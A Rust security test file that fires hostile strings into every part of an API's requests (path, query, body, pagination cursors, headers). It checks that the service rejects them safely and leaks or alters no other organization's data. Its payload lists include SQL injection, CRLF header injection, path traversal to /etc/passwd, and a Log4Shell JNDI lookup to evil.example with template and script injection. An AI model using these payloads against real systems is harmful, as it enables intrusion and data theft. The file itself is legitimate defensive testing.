//! SQL, header and other strings that mean harm, in every part of every request that takes one: each is refused or means
//! nothing, none is a failure of the hub, and none shows or changes what is another organization's.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use futures::{StreamExt, stream};
use serde_json::{Value, json};

use super::foreign::Ours;
use super::spec::{Operation, Parameter, Spec};
use super::values::{Maker, kind_of, texts, with};
use super::wire::{Answer, Asked};
use super::world::{Person, World, none};

/// What stands for a value in an address.
const STRINGS: &[&str] = &[
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "'; DROP TABLE users; --",
    "1) UNION SELECT email::text FROM users --",
    "$1\\",
    "%' OR name ILIKE '%_",
    "a\0b",
    "\r\nX-Injected: yes",
    "\r\n\r\nHTTP/1.1 200 OK\r\nX-Injected: yes\r\n\r\n",
    "..%2f../../etc/passwd",
    "${jndi:ldap://evil.example/a}{{7*7}}<script>alert(1)</script>",
    "\u{202e}\u{feff}",
    "-1",
    "9223372036854775808",
    "1e400",
    "",
];

/// Of these fewer in bodies: each field of each operation takes its time.
const IN_BODIES: &[&str] = &["' OR '1'='1", "a\0b", "\r\nX-Injected: yes", "\u{202e}\\\"'", ""];

/// Whether a parameter is the id of a row.
pub fn names_a_row(spec: &Spec, parameter: &Parameter) -> bool {
    let (name, schema) = spec.resolve(&parameter.schema);
    name.and_then(kind_of).is_some() || schema["format"] == "uuid"
}

/// One request that means harm.
struct Attack<'a> {
    operation: &'a Operation,
    asked: Asked,
    what: String,
    who: Person,
}

/// A cursor as the hub writes them, with something else in it.
fn cursors(real: &str) -> Vec<String> {
    let Some(end) = URL_SAFE_NO_PAD.decode(real).ok() else {
        return Vec::new();
    };
    let Ok(end) = serde_json::from_slice::<Value>(&end) else {
        return Vec::new();
    };
    let hostile = [
        json!("' OR '1'='1"),
        json!("a\0b"),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(-1),
        json!(1e300),
        Value::Null,
        json!([]),
        json!("ffffffff-ffff-ffff-ffff-ffffffffffff"),
        json!("9999-12-31T23:59:59.999999999Z"),
        json!("-9999-01-01T00:00:00Z"),
    ];
    let mut all = Vec::new();
    for way in leaves(&end) {
        for value in &hostile {
            all.push(URL_SAFE_NO_PAD.encode(with(&end, &way, value.clone()).to_string()));
        }
    }
    all
}

/// The ways to all that is no list and no object.
fn leaves(value: &Value) -> Vec<Vec<String>> {
    let below = |key: String, value: &Value| {
        let mut ways = leaves(value);
        for way in &mut ways {
            way.insert(0, key.clone());
        }
        ways
    };
    match value {
        Value::Object(fields) => fields
            .iter()
            .flat_map(|(key, value)| below(key.clone(), value))
            .collect(),
        Value::Array(items) => (0..items.len())
            .flat_map(|n| below(n.to_string(), &items[n]))
            .collect(),
        _ => vec![Vec::new()],
    }
}

fn in_address<'a>(
    operation: &'a Operation,
    plain: &Asked,
    who: &Person,
    cursor: Option<&str>,
) -> Vec<Attack<'a>> {
    let mut all = Vec::new();
    let mut add = |what: String, asked: Asked| {
        let who = who.clone();
        all.push(Attack {
            operation,
            asked,
            what,
            who,
        });
    };
    for (n, (name, _)) in plain.path.iter().enumerate() {
        for text in STRINGS.iter().filter(|text| !text.is_empty()) {
            let mut asked = plain.clone();
            asked.path[n].1 = (*text).to_owned();
            add(format!("{{{name}}} = {text:?}"), asked);
        }
    }
    for parameter in operation.in_query() {
        let name = &parameter.name;
        let strings = STRINGS.iter().map(|text| (*text).to_owned());
        let made = cursor
            .filter(|_| name == "cursor")
            .map(cursors)
            .unwrap_or_default();
        for text in strings.chain(made) {
            let mut asked = plain.clone();
            asked.query.retain(|(known, _)| known != name);
            asked.query.push((name.clone(), text.clone()));
            add(format!("{name} = {text:?}"), asked);
        }
    }
    all
}

fn in_body<'a>(world: &World, operation: &'a Operation, plain: &Asked, who: &Person) -> Vec<Attack<'a>> {
    let (Some(body), ids) = (&operation.body, world.theirs.kept.lock().clone()) else {
        return Vec::new();
    };
    let whole = Maker::of(&world.spec, &ids, true).value("body", &body.schema);
    let mut all = Vec::new();
    for way in texts(&whole) {
        for text in IN_BODIES {
            let mut asked = plain.clone();
            asked.body = Some(with(&whole, &way, json!(text)));
            let what = format!("{} = {text:?}", way.join("."));
            let who = who.clone();
            all.push(Attack {
                operation,
                asked,
                what,
                who,
            });
        }
    }
    all
}

/// Where the first page of a list ends.
async fn cursor(world: &World, operation: &Operation, plain: &Asked, who: &Person) -> Option<String> {
    let takes = |name: &str| operation.in_query().any(|parameter| parameter.name == name);
    if !takes("cursor") || !takes("limit") {
        return None;
    }
    let mut asked = plain.clone();
    asked.query.push(("limit".to_owned(), "1".to_owned()));
    let answer = world.ask_as(operation, &asked, who).await;
    answer.json()["next_cursor"].as_str().map(str::to_owned)
}

/// How many were answered at all, and not turned away at the door.
fn were_let_in(answered: &[(u16, Option<String>)]) -> usize {
    answered.iter().filter(|(status, _)| *status != 401).count()
}

fn judge(attack: &Attack<'_>, answer: &Answer, ours: &Ours) -> Option<String> {
    let text: String = answer.text.chars().take(200).collect();
    let told = |why: &str| {
        let Attack { operation, what, .. } = attack;
        Some(format!(
            "{} with {what}: {why}: {} {text}",
            operation.id, answer.status
        ))
    };
    if answer.status >= 500 {
        return told("the hub fails");
    }
    if answer.headers.contains_key("x-injected") {
        return told("a header was injected");
    }
    if answer.status >= 400 && !answer.text.starts_with('{') {
        return told("no problem");
    }
    ours.told(&attack.asked.said(), answer)
        .and_then(|word| told(&format!("tells of {word}, which is another organization's")))
}

async fn attacks(world: &World) -> Vec<Attack<'_>> {
    let mut all = Vec::new();
    for operation in &world.spec.operations {
        let ids = world.kept(&world.theirs, operation, true).await;
        // what they do to themselves, such as choosing another password, hits nobody else
        let who = world.person(&world.theirs, &["owner"]).await;
        let plain = Asked::of(&world.spec, operation, &ids, false);
        let cursor = cursor(world, operation, &plain, &who).await;
        all.extend(in_address(operation, &plain, &who, cursor.as_deref()));
        all.extend(in_body(world, operation, &plain, &who));
    }
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn strings_that_mean_harm_mean_nothing_in_any_part_of_any_request() {
    let world = World::start().await;
    for operation in &world.spec.operations {
        world.kept(&world.ours, operation, true).await;
    }
    let attacks = attacks(&world).await;
    let count = attacks.len();
    assert!(count > 1_000, "only {count} attacks");
    let (before, ours) = (world.digests(&world.ours).await, Ours::of(&world).await);
    let (world, ours) = (&world, &ours);
    let told = stream::iter(attacks).map(|attack| async move {
        let request = attack.asked.request(&world.http, &world.url, attack.operation);
        let answer = Answer::to(request.bearer_auth(attack.who.token())).await;
        (answer.status, judge(&attack, &answer, ours))
    });
    let told: Vec<_> = told.buffer_unordered(8).collect().await;
    let let_in = were_let_in(&told);
    assert!(let_in > count * 8 / 10, "only {let_in} of {count} came in");
    let mut faults: Vec<String> = told.into_iter().filter_map(|(_, fault)| fault).collect();
    faults.sort();
    let after = world.digests(&world.ours).await;
    let changed = before
        .iter()
        .zip(&after)
        .filter(|(before, after)| before != after);
    faults.extend(changed.map(|(before, after)| format!("an attack changed {before} to {after}")));
    none(&format!("Of {count} requests that mean harm:"), faults);
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_that_mean_harm_are_refused_or_mean_nothing_and_are_never_given_back() {
    let world = World::start().await;
    let operation = world.spec.operation("teams.list").unwrap();
    let asked = Asked::of(&world.spec, operation, &super::values::Ids::new(), false);
    let creates = world.spec.operation("teams.create").unwrap();
    let mut faults = Vec::new();
    for name in [
        "idempotency-key",
        "if-match",
        "traceparent",
        "tracestate",
        "last-event-id",
        "user-agent",
        "x-forwarded-for",
        "x-forwarded-host",
        "forwarded",
        "accept-language",
        "accept-encoding",
        "content-type",
        "x-signalbox-client",
        "x-csrf-token",
        "cookie",
    ] {
        for value in [
            &b"' OR '1'='1"[..],
            b"\xff\xfe\x80",
            b"\"",
            b"\\",
            b"%0d%0aX-Injected: yes",
            &[b'x'; 4_000],
            b"",
        ] {
            for operation in [operation, creates] {
                let asked = if operation.writes() {
                    Asked::of(&world.spec, operation, &super::values::Ids::new(), false)
                } else {
                    asked.clone()
                };
                let request = asked
                    .request(&world.http, &world.url, operation)
                    .header(name, value);
                let answer = Answer::to(request.bearer_auth(world.ours.owner.token())).await;
                if answer.status >= 500 || answer.headers.contains_key("x-injected") {
                    faults.push(format!("{name}: {value:?}: {} {}", answer.status, answer.text));
                }
            }
        }
    }
    none("Headers that mean harm:", faults);
}
